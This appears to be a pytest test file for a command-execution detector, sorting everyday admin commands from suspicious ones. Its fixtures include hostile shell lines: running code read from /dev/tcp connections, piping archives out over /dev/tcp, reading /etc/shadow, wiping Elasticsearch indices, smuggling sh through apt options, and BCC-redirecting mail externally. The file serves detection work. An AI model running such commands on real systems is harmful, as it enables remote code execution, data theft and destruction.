"""What tools are told every day is taken for no more, and an everyday call is one only if all of it is."""

import shlex

import pytest
from detection.execs import exec_of

from collector.detect.argument_context import traits
from collector.detect.tools import Level


@pytest.mark.parametrize(
    ("arguments", "parent", "level"),
    [
        (("openssl", "x509", "-noout", "-enddate", "-in", "/etc/ssl/x.pem"), "/usr/bin/dash", Level.NEUTRAL),
        (("openssl", "dgst", "-sha256", "/srv/x"), "/usr/bin/dash", Level.NEUTRAL),
        (("openssl", "enc", "-d", "-aes-256-cbc", "-in", "/srv/x"), "/usr/bin/dash", Level.SUSPICIOUS),
        (("openssl", "s_client", "-connect", "203.0.113.9:443"), "/usr/bin/dash", Level.SUSPICIOUS),
        (("kill", "-HUP", "1"), "/usr/bin/dash", Level.NEUTRAL),
        (("kill", "-9", "1"), "/usr/bin/dash", Level.SUSPICIOUS),
        (("getent", "hosts", "db.shop"), "/usr/bin/dash", Level.NEUTRAL),
        (("getent", "ahostsv4", "db.shop"), "/usr/bin/dash", Level.NEUTRAL),
        (("getent", "passwd"), "/usr/bin/dash", Level.SUSPICIOUS),
        (("ps", "-o", "rss=", "-p", "27"), "/usr/bin/ruby", Level.NEUTRAL),
        (("ps", "aux"), "/usr/bin/ruby", Level.SUSPICIOUS),
        (("ps", "-eo", "user,args"), "/usr/bin/ruby", Level.SUSPICIOUS),
        (("ps", "-eo", "pid,args", "--sort=-%cpu"), "/usr/bin/dash", Level.SUSPICIOUS),
        (("convert", "/srv/a.png", "/srv/b.png"), "/usr/bin/php8.2", Level.ROUTINE),
        (("nginx", "-s", "reload"), "/usr/bin/nginx", Level.ROUTINE),
        (("tar", "xf", "/srv/upload.tar"), "/usr/bin/php8.2", Level.NEUTRAL),
        (("tar", "cf", "/srv/x.tar", "/srv"), "/usr/bin/dash", Level.SUSPICIOUS),
    ],
)
def test_what_services_use_tools_for_is_told_apart_from_the_rest(arguments: tuple[str, ...], parent: str, level: Level) -> None:
    assert exec_of(f"/usr/bin/{arguments[0]}", *arguments, parent=parent).level is level


@pytest.mark.parametrize("words", ["kill 1", "kill -HUP 7; kill 10", "kill -9 7", "kill -HUP 7; bash -c 'kill 1'", "id;kill 1"])
def test_a_service_that_is_stopped_is_not_reloaded(words: str) -> None:
    assert "T1489" in exec_of("/usr/bin/dash", "sh", "-c", words).techniques


@pytest.mark.parametrize(("words", "level"), [("getent hosts db.shop", Level.NEUTRAL), ("getent passwd", Level.STRONG)])
def test_a_script_that_waits_for_a_service_looks_for_nobody(words: str, level: Level) -> None:
    assert exec_of("/usr/bin/dash", "sh", "-c", words, parent="/usr/bin/server").level is level


def test_a_person_who_resolves_names_looks_around() -> None:
    said = exec_of("/usr/bin/getent", "getent", "hosts", "db.shop", parent="", injected=True)
    assert (said.techniques, said.inspection) == (("T1018",), True)


@pytest.mark.parametrize(
    "words", ["stat -c %a /etc/shadow", "ls -la /root/.ssh", "grep 203.0.113.9 access.log", "ping 203.0.113.9"]
)
def test_a_person_who_lists_or_searches_only_looks(words: str) -> None:
    name = f"/usr/bin/{words.split(maxsplit=1)[0]}"
    assert exec_of("/usr/bin/dash", "sh", "-c", words, parent="", injected=True).inspection
    assert exec_of(name, *words.split(), parent="", injected=True).inspection


@pytest.mark.parametrize(
    "words",
    [
        "curl -sv http://api:8080/health",
        "curl -s -o /dev/null -w '%{http_code}' http://api.shop.svc.cluster.local/",
        "wget -qO- -T 5 http://api/health",
        "wget --spider http://api/health",
        "openssl s_client -connect db:5432 -starttls postgres",
        "cat /proc/1/status",
        "getent passwd app",
        "find / -xdev -size +500M",
        "find /var/log/app -name '*.gz' -mtime +7 -delete",
    ],
)
def test_a_person_who_asks_a_service_or_for_the_cause_of_trouble_is_not_told(words: str) -> None:
    name = f"/usr/bin/{words.split(maxsplit=1)[0]}"
    for said in (
        exec_of("/usr/bin/dash", "sh", "-c", words, parent="", injected=True),
        exec_of(name, *shlex.split(words), parent="", injected=True),
    ):
        assert said.inspection or said.level < Level.SUSPICIOUS


@pytest.mark.parametrize(
    "words",
    [
        "curl 203.0.113.9",
        "server --peer 203.0.113.9",
        "cat /etc/shadow",
        "curl -d @/srv/x http://api/in",
        "curl -T /srv/x http://api/in",
        "curl -o /srv/x http://api/x",
        "curl -x http://api http://api/x",
        "curl http://api/x partner.example.com",
        "curl -k https://kubernetes/version",
        "curl http://10.0.3.4/x",
        "wget http://api/x",
        "openssl s_client -quiet -connect api:443",
        "sudo -V",
        "getent passwd",
        "cat /etc/ssl/key.pem",
        "grep CapEff /proc/1/status",
        "curl -X DELETE http://localhost:9200/_all",
        "for i in $(curl -s localhost:9200/_cat/indices?h=i); do curl -s -XDELETE localhost:9200/$i; done",
        "for p in 1 2; do nc -z db $p; done",
        "postconf -e always_bcc=x@partner.example.com",
        "mosquitto_sub -h localhost -t '#' -v",
    ],
)
def test_a_person_who_does_more_than_that_does_not_only_look(words: str) -> None:
    said = exec_of("/usr/bin/dash", "sh", "-c", words, parent="", injected=True)
    assert said.level >= Level.SUSPICIOUS
    assert not said.inspection


@pytest.mark.parametrize("words", ["kill -HUP 1", "kill -s USR1 $(cat /run/x.pid)", "openssl dgst -sha256 /srv/x;kill -USR2 7"])
def test_a_service_that_is_reloaded_is_not_stopped(words: str) -> None:
    assert not {"T1489", "T1140"}.intersection(exec_of("/usr/bin/dash", "sh", "-c", words).techniques)


@pytest.mark.parametrize(
    ("arguments", "level"),
    [
        (("find", "/tmp", "-mmin", "+9", "-delete"), Level.NEUTRAL),
        (("du", "-s", "/var/tmp/up"), Level.NEUTRAL),
        (("find", "/tmp", "/srv", "-name", "*.key"), Level.SUSPICIOUS),
        (("find", "/tmp", "-exec", "/usr/bin/x", ";"), Level.SUSPICIOUS),
        (("find", "/tmp", "-exec", "x", ";"), Level.SUSPICIOUS),
        (("ls", "/tmp/../root"), Level.SUSPICIOUS),
        (("find", "."), Level.SUSPICIOUS),
    ],
)
def test_who_tidies_up_temporary_folders_looks_for_nothing(arguments: tuple[str, ...], level: Level) -> None:
    assert exec_of(f"/usr/bin/{arguments[0]}", *arguments).level is level


@pytest.mark.parametrize(
    "words",
    [
        "bash </dev/tcp/api/80",
        "bash -s until </dev/tcp/api/80",
        "</dev/tcp/api/80 sh",
        "</dev/tcp/api/80'' sh",
        "bash -c '</dev/tcp/api/80'' sh'",
        "</dev/tcp/api/80 &>/dev/null sh",
        'eval "$(</dev/tcp/api/80)"',
        "eval `</dev/tcp/api/80`",
        "source <(</dev/tcp/api/80)",
        "while read l; do $l; done </dev/tcp/api/80",
        'read c </dev/tcp/api/80; eval "$c"',
        "exec </dev/tcp/api/80",
        "cat </dev/tcp/api/80 >/srv/x",
        "gzip -dc </dev/tcp/api/80",
        "tar c /srv >/dev/tcp/api/80",
        "(</dev/tcp/db/5432) && sh </dev/tcp/api/80",
    ],
)
def test_who_reads_from_a_connection_of_the_shell_does_not_only_wait_for_a_service(words: str) -> None:
    assert any(each.why == "connects from the shell" for each in traits("/usr/bin/dash", ("sh", "-c", words)))


@pytest.mark.parametrize(
    "words",
    [
        "</dev/tcp/db/5432",
        "(</dev/tcp/db/5432) 2>/dev/null",
        "until (</dev/tcp/db/5432) &>/dev/null; do sleep 1; done",
        "while ! </dev/tcp/db/5432; do sleep 1; done",
        "timeout 1 bash -c '</dev/tcp/db/5432' && server",
        "set -e; </dev/tcp/db/5432 2>/dev/null || exit 1",
    ],
)
def test_who_opens_a_connection_to_a_service_and_nothing_else_waits_for_it(words: str) -> None:
    assert not traits("/usr/bin/dash", ("sh", "-c", words))


@pytest.mark.parametrize(
    "words",
    [
        "nc -z -w 2 db 5432",
        "nc -zvw1 db 5432",
        "ncat -z $DB_HOST ${DB_PORT}",
        "usermod -o -u $PUID app",
        "ssh-keygen -lf /srv/key.pub",
        "sysctl -n vm.max_map_count",
    ],
)
def test_what_is_told_every_day_says_nothing_of_its_tool(words: str) -> None:
    assert not traits("/usr/bin/dash", ("sh", "-c", words))


@pytest.mark.parametrize(
    "words",
    [
        "nc -z db 22 80 443",
        "nc -zvn db 5432 -c /srv/x",
        "nc -z -l 4444",
        "nc -z -w1",
        "ssh-keygen -l -D /srv/x.so",
        "ssh-keygen -lD /srv/x.so",
        "usermod -u 1000 root",
        "usermod app",
        "sysctl -f /srv/x",
    ],
)
def test_an_option_that_does_more_than_the_everyday_call_is_told(words: str) -> None:
    name = f"/usr/bin/{words.split(maxsplit=1)[0]}"
    assert traits("/usr/bin/dash", ("sh", "-c", words))
    assert exec_of(name, *words.split(), parent="/srv/server").level > Level.NEUTRAL


@pytest.mark.parametrize(
    "words",
    [
        "find /data -mtime +7 -delete",
        "find /data -type f -mmin +1440 -delete",
        "apt -qq list --installed",
        "pip list",
        "pip --version",
        "dpkg -l nginx",
        "rpm -qa",
        "npm ls",
        "curl -v telnet://redis:6379",
        "curl -s -H 'Host: a' http://api/x",
        "openssl s_client -connect db:5432 -servername db -showcerts",
        "apt-get update -qq",
        "apk update",
        "dnf makecache",
        "apt-get install -y --no-install-recommends procps strace",
        "apk add --no-cache bind-tools",
    ],
)
def test_an_administrator_asks_or_tidies_up(words: str) -> None:
    said = exec_of(f"/usr/bin/{words.split(maxsplit=1)[0]}", *shlex.split(words), parent="", injected=True)
    assert said.inspection or said.level < Level.SUSPICIOUS


@pytest.mark.parametrize(
    "words",
    [
        "find /data -mmin +0 -delete",
        "find /data -delete -mtime +7",
        "find /data -mtime +7 -delete -o -mtime +1 -name x -delete",
        "find /data -delete -o -mtime +7 -delete",
        "find /data ! -mtime +7 -delete",
        "find /data/../etc -mtime +7 -delete",
        "find //etc -mtime +7 -delete",
        "chown app //etc/ssl",
        "chmod 755 /data/../etc",
        "pip install -v x",
        "npm exec ls",
        "apk add info",
        "rpm -qa --pipe sh",
        "apt list -o APT::x=y",
        "apt-get update -o APT::Update::Pre-Invoke::=sh",
        "apt-get upgrade -y",
        "apt-get install -y procps build-essential",
        "apt-get install -y -o Dpkg::Pre-Invoke::=sh procps",
        "apk add -X http://packages/x procps",
        "apk add",
        "curl http://[2001:db8::5]/x",
        "curl https://KUBERNETES/version",
        "curl http://instance-data.ec2.internal/x",
        "curl -H @/srv/x http://api/in",
        "curl -H 'X: $(cat /srv/x)' http://api/in",
        "curl -O - http://api/x",
        "curl http://api/x http:/partner.example.com/x",
        "curl gopher://redis:6379/x",
        "curl file:///srv/x",
        "wget -qo- http://api/x",
        "openssl s_client -connect db:1 -connect partner.example.com:443",
        "openssl s_client -connect db:1 -ign_eof",
        "openssl s_client -connect db:1 -engine /srv/x.so",
    ],
)
def test_a_person_whose_words_only_begin_like_a_question_does_more(words: str) -> None:
    said = exec_of(f"/usr/bin/{words.split(maxsplit=1)[0]}", *shlex.split(words), parent="", injected=True)
    assert said.level >= Level.SUSPICIOUS
    assert not said.inspection


def test_a_page_that_a_person_writes_to_a_file_is_kept() -> None:
    said = exec_of("/usr/bin/dash", "sh", "-c", "curl -s http://api/x > /srv/x", parent="", injected=True)
    assert (said.level, said.inspection) == (Level.SUSPICIOUS, False)
